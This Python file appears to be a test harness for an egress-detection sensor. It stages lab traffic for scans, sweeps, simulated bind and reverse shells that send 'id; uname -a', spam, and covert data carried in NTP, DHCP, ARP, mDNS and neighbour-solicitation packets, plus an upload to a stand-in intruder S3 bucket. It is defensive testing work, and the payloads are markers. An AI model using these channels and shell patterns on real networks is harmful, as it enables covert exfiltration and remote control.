# SPDX-License-Identifier: Apache-2.0
"""The techniques that run as real traffic, a function each, by the names of techniques.toml. What a function returns must have left the
room, as bytes of a frame; without that, the remote address. Further ones: live_names.py, live_odd.py; and benign.py."""
import contextlib
import socket
import struct

import frames
from frames import UDP
import net
import payloads
from payloads import TXT
import world
from world import TIME, swallow

LIVE = {}
MARK = b"left the room"
STAYS = b""  # nothing is to leave the room


def live(f):
    LIVE[f.__name__.replace("_", "-")] = f
    return f


# ---- plain ----

@live
def tcp_plain(room):
    room.listen(8443)
    room.exchange(8443)


@live
def udp_plain(room):
    room.datagrams(9000, [b"q" * 300] * 3)


@live
def udp_one_way(room):
    room.datagrams(9001, [b"q" * 300], reply=None)


@live
def icmp_echo(room):
    ping(room, [b"p" * frames.PING_SIZE] * 3)


def ping(room, payloads_out):
    """Echo requests, each answered by the outside's kernel."""
    six = ":" in room.remote
    s = room.raw_socket(frames.ICMP6 if six else frames.ICMP)
    for i, data in enumerate(payloads_out):
        s.sendto(frames.echo(room.address6 if six else room.address, room.remote, data, number=i + 1), (room.remote, 0))
        while True:
            got = s.recv(65536)
            if got[0 if six else 20] == (129 if six else 0):
                break


@live
def tcp6(room):
    room.listen(8443)
    room.exchange(8443)


@live
def udp6(room):
    room.datagrams(9000, [b"q" * 300] * 3)


@live
def icmp6_echo(room):
    ping(room, [b"p" * frames.PING_SIZE] * 3)


@live
def link_local_to_global(room):
    room.frame(room.ip(UDP, frames.udp(room.link6, room.remote, 40000, 9002, MARK), src=room.link6))


def outside_ping(room, count=1):
    """Pinged from outside, answered by this machine's kernel."""
    s = room.stack.enter_context(net.sock(room.world.ns.out, socket.AF_INET, socket.SOCK_RAW, frames.ICMP))
    s.settimeout(world.LIMIT_S)
    s.setsockopt(socket.IPPROTO_IP, world.IP_FREEBIND, 1)
    s.bind((room.remote, 0))
    for i in range(count):
        s.sendto(frames.echo(room.remote, room.address, b"p" * frames.PING_SIZE, number=i + 1), (room.address, 0))
        while s.recv(65536)[20] != 0:
            pass


# ---- attempts ----

@live
def syn_unanswered(room):
    s = room.own(socket.SOCK_STREAM)
    s.setblocking(False)
    s.connect_ex((room.remote, 443))


def refused(room, port):
    try:
        room.connect(port)
    except ConnectionRefusedError:
        return
    raise AssertionError("a closed port took a connection")


@live
def syn_refused(room):
    refused(room, 443)


@live
def udp_refused(room):
    s = room.own(socket.SOCK_DGRAM)
    s.connect((room.remote, 9003))
    s.send(MARK)
    with contextlib.suppress(ConnectionRefusedError):
        s.recv(100)


# ---- shells ----

@live
def bind_shell(room):
    listener = room.own(socket.SOCK_STREAM, port=4444)
    world.serve(listener, lambda conn: (conn.recv(100), conn.sendall(MARK * 100), conn.shutdown(socket.SHUT_WR), swallow(conn)))
    s = room.outside(0, socket.SOCK_STREAM)
    s.connect((room.address, 4444))
    s.sendall(b"id; uname -a\n")
    while s.recv(65536):
        pass
    listener.shutdown(socket.SHUT_RDWR)
    return MARK * 100


@live
def udp_bind_shell(room):
    a, b = room.own(socket.SOCK_DGRAM, port=4445), room.outside(40445)
    b.sendto(b"id\n", (room.address, 4445))
    _, peer = a.recvfrom(100)
    a.sendto(MARK * 20, peer)
    b.recv(1000)


@live
def probed(room):
    """Closed ports called from outside: what this machine answers is no egress of its own."""
    b = room.outside(40446)
    b.connect((room.address, 7))
    b.send(b"probe")
    try:
        b.recv(100)
    except ConnectionRefusedError:
        pass
    s = room.outside(0, socket.SOCK_STREAM)
    try:
        s.connect((room.address, 8))
    except ConnectionRefusedError:
        pass


@live
def reverse_shell(room):
    def shell(conn):
        for _ in range(3):
            conn.sendall(b"id; uname -a\n")
            if not conn.recv(65536):
                return

    room.listen(4446, shell)
    s = room.connect(4446)
    while s.recv(100):
        s.sendall(MARK * 20)


# ---- many, much ----

@live
def sweep(room):
    """Port 22 of 64 addresses, all of them closed."""
    for i in range(64):
        room.remote = f"192.88.99.{i + 1}"
        refused(room, 22)


@live
def scan(room):
    for port in range(2000, 2060):
        refused(room, port)


@live
def icmp_sweep(room):
    for i in range(64):
        room.remote = f"192.88.98.{i + 1}"
        ping(room, [b"p" * frames.PING_SIZE])


@live
def spam(room):
    def server(conn):
        conn.sendall(b"220 mail.example ESMTP\r\n")
        while conn.recv(1000):
            conn.sendall(b"250 ok\r\n")

    room.listen(25, server)
    s = room.connect(25)
    s.recv(100)
    for line in (b"EHLO i\r\n", b"MAIL FROM:<a@example.com>\r\n", b"RCPT TO:<b@example.com>\r\n"):
        s.sendall(line)
        s.recv(100)
    s.close()


@live
def volume(room):
    room.listen(8445, swallow)
    s = room.connect(8445)
    s.sendall(b"v" * (4 << 20))
    s.shutdown(socket.SHUT_WR)
    s.recv(1)


# ---- hidden in what is allowed ----

@live
def allowed_range(room):
    room.tls(443, "bucket-of-the-intruder.s3.amazonaws.com", data=frames.noise(20000))


@live
def allowed_range_volume(room):
    room.listen(443, swallow)
    s = room.connect(443)
    s.sendall(b"v" * (4 << 20))
    s.shutdown(socket.SHUT_WR)
    s.recv(1)


@live
def other_port_of_allowed(room):
    room.listen(8446)
    room.exchange(8446)


@live
def collector_port(room):
    """Another program speaks to the collector's port."""
    host, port = room.collector.rsplit(":", 1)
    s = room.own(socket.SOCK_STREAM)
    s.connect((host, int(port)))
    s.sendall(MARK)
    s.close()
    return MARK


@live
def time_sync_payload(room):
    """What NTP leaves free, filled with data, to the time service that every policy expects."""
    s = room.own(socket.SOCK_DGRAM)
    for i in range(8):
        s.sendto(payloads.ntp()[:16] + frames.noise(32, i), (TIME, 123))
        s.recv(100)
    return frames.noise(32, 7)


@live
def dhcp_option(room):
    s = room.own(socket.SOCK_DGRAM, "0.0.0.0", 68)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    s.sendto(payloads.dhcp(room.mac, b"\xe0" + bytes([len(MARK)]) + MARK), ("255.255.255.255", 67))
    return MARK


# ---- what stays on the link ----

def to_group(room, port, data=MARK):
    s = room.own(socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(data, (room.remote, port))


@live
def multicast(room):
    to_group(room, 9020)
    return MARK


@live
def broadcast(room):
    to_group(room, 9021)
    return MARK


@live
def mdns(room):
    to_group(room, 5353, payloads.query("data-to-a-neighbour.local", TXT))
    return payloads.name("data-to-a-neighbour.local")


@live
def arp_payload(room):
    """Data behind ARP requests, to whoever listens on the link."""
    for i in range(8):
        room.frame(bytes.fromhex("0001080006040001") + room.mac + frames.packed(room.address) + b"\0" * 6 +
                   frames.packed(f"10.77.{room.number}.{100 + i}") + MARK, dst=b"\xff" * 6, ethertype=0x0806)
    return MARK


@live
def unknown_ethertype(room):
    for _ in range(8):
        room.frame(MARK * 8, ethertype=0x88b5)
    return MARK


@live
def neighbour_solicitation_payload(room):
    target = "ff02::1:ff00:1"
    body = struct.pack(">BBHI", 135, 0, 0, 0) + frames.packed("fe80::1") + b"\xfd\3" + MARK + b"\0" * 9
    room.frame(frames.ip(room.link6, target, frames.ICMP6, frames.summed(room.link6, target, frames.ICMP6, body, 2)),
               dst=b"\x33\x33\xff\0\0\1")
    return MARK


@live
def other_interface(room):
    """By an interface that the sensor was not told to watch."""
    near, far = f"10.78.{room.number}.2", f"10.78.{room.number}.1"
    net.veth(room.ns, "eth1", [near + "/24"], room.world.ns.router, f"x{room.number}", [far + "/24"])
    room.wire = world.Wire(room.world.ns.router, f"x{room.number}")
    room.stack.callback(room.wire.s.close)
    s = room.own(socket.SOCK_DGRAM, near)
    s.sendto(MARK, (far, 9023))
    return MARK


@live
def container(room):
    """A container with an address of its own on the same card (macvlan)."""
    inner_ns = getattr(room.world.ns, f"r{room.number}c")
    net.ip("-n", room.ns, "link", "add", "mv0", "link", "eth0", "netns", inner_ns, "type", "macvlan", "mode", "bridge")
    net.ip("-n", inner_ns, "addr", "add", f"10.77.{room.number}.77/24", "dev", "mv0")
    net.ip("-n", inner_ns, "link", "set", "mv0", "up")
    net.ip("-n", inner_ns, "route", "add", "default", "via", f"10.77.{room.number}.1")
    net.ip("-n", inner_ns, "neigh", "replace", f"10.77.{room.number}.1", "lladdr", room.router_mac.hex(":"), "dev", "mv0", "nud", "permanent")
    with net.sock(inner_ns, socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(MARK, (room.remote, 9024))
    return MARK


@live
def own_addresses(room):
    """Between two addresses of the machine, over its loopback interface: nothing leaves."""
    listener = room.own(socket.SOCK_STREAM, room.second, 9022)
    world.serve(listener, world.reply_once)
    s = room.own(socket.SOCK_STREAM)
    s.connect((room.second, 9022))
    s.sendall(MARK)
    s.recv(1000)
    s.close()
    listener.shutdown(socket.SHUT_RDWR)
    return STAYS
